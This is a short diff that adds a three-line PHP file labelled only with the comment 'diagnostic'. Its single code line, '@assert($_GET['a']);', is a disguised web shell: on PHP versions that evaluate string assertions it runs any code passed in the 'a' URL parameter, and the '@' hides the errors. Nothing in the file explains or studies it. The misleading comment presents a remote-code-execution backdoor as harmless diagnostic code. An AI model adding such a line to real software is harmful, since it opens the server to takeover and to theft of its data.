@@ -1,0 +1,3 @@
+<?php
+// diagnostic
+@assert($_GET['a']);
